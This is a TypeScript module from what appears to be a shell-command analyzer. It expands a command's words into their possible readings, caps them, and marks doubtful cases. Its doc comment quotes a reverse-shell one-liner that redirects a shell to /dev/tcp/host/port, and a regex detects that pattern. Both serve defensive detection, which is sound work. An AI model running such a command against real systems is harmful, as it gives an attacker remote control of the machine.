import type {Assignment, Command, CommandArgument, Word} from 'unbash'
import {runEnvironmentCommand} from './carried-commands.ts'
import {baseName} from './files.ts'
import {isShell} from './interpreters.ts'
import {inputOf, openOutputs, writeOutput} from './redirects.ts'
import {isPlainProgram} from './run-fields.ts'
import {doubt, type Field, feed, type Shell, spend} from './shell.ts'
import {empty, join, type Text} from './text.ts'
import {runAssignment} from './variables.ts'
import {expandWord} from './words.ts'

/** Ways to read one command that are followed. */
const readingLimit = 32

/** Runs one command with its assignments and redirections; the result is what it prints. */
export function runSimple(shell: Shell, node: Command, stdin: Text | undefined): Text {
  const outer = shell.stdin
  shell.stdin = stdin
  try {
    const input = inputOf(shell, node.redirects, stdin)
    shell.stdin = input
    for (const part of node.prefix)
      if (part.type === 'Assignment') assignmentWords(shell, part, node.name === undefined)
    const outputs = openOutputs(shell, node.redirects)
    if (talksToNetwork(node)) doubt(shell, 'a shell takes its commands from the network')
    const output = node.name === undefined ? bareOutput(node, input) : runWords(shell, [node.name, ...node.args], input)
    return writeOutput(shell, outputs, output)
  } finally {
    shell.stdin = outer
  }
}

/** `sh -i >& /dev/tcp/host/port 0>&1`. */
function talksToNetwork({name, redirects}: Command): boolean {
  return (
    name !== undefined &&
    isShell(baseName(name.value ?? name.text)) &&
    redirects.some((redirect) => 'target' in redirect && /^\/dev\/(?:tcp|udp)\//.test(redirect.target?.text ?? ''))
  )
}

/** `$(<file)` is what the file holds. */
function bareOutput({redirects}: Command, input: Text | undefined): Text {
  return redirects.length > 0 && input !== undefined ? input : empty
}

function runWords(shell: Shell, words: readonly (Word | CommandArgument)[], input: Text | undefined): Text {
  const options: Field[][][] = []
  for (const [index, word] of words.entries()) {
    const option = word.type === 'Word' ? expandWord(shell, word) : assignmentWords(shell, word)
    // The parser ends a word where `<( )` begins and where it ends: `a=<(b)` is one.
    if (index > 0 && words[index - 1]!.end === word.pos) options.push(glued(shell, options.pop()!, option))
    else options.push(option)
  }
  const outputs = readings(shell, options).map((fields) => runReading(shell, fields, input))
  return outputs.length === 1 ? outputs[0]! : join(outputs)
}

/** The last word of each alternative and the first of each next one are one word. */
function glued(shell: Shell, heads: readonly Field[][], tails: readonly Field[][]): Field[][] {
  if (heads.length * tails.length > readingLimit) {
    doubt(shell, 'its words may stand for too many things')
    return heads.slice(0, 1)
  }
  spend(shell, heads.length * tails.length)
  return heads.flatMap((head) =>
    tails.map((tail) => {
      const [last, first] = [head.at(-1), tail[0]]
      if (last === undefined || first === undefined) return [...head, ...tail]
      return [...head.slice(0, -1), {...last, ...join([last, first])}, ...tail.slice(1)]
    }),
  )
}

function runReading(shell: Shell, fields: readonly Field[], input: Text | undefined): Text {
  const output = shell.runFields(shell, fields, input)
  for (const {text} of fields) {
    const sink = shell.sinks.get(text)
    if (sink === undefined) continue
    feed(shell, sink, join([output, input ?? empty]))
  }
  return output
}

function assignmentWords(shell: Shell, assignment: Assignment, isCertain = false): Field[][] {
  const words = runAssignment(shell, assignment, isCertain)
  for (const word of words) runEnvironmentCommand(shell, word)
  return words.map((text) => [text])
}

/** Every way to combine the alternatives of all words; where these are too many, all arguments at once. */
function readings(shell: Shell, options: readonly Field[][][]): Field[][] {
  const count = options.reduce((product, alternatives) => product * alternatives.length, 1)
  spend(shell, Math.min(count, readingLimit))
  if (count === 1) return [options.flatMap(([only]) => only!)]
  if (count <= readingLimit) {
    let all: Field[][] = [[]]
    for (const alternatives of options) {
      if (alternatives.length === 1) for (const reading of all) reading.push(...alternatives[0]!)
      else all = all.flatMap((head) => alternatives.map((tail) => [...head, ...tail]))
    }
    return all
  }
  const [programs, ...args] = options
  if (programs!.some(([first]) => first === undefined || !isPlainProgram(shell, first.text)))
    doubt(shell, 'its words may stand for too many things')
  return programs!.map((program) => [...program, ...args.flat(2)])
}
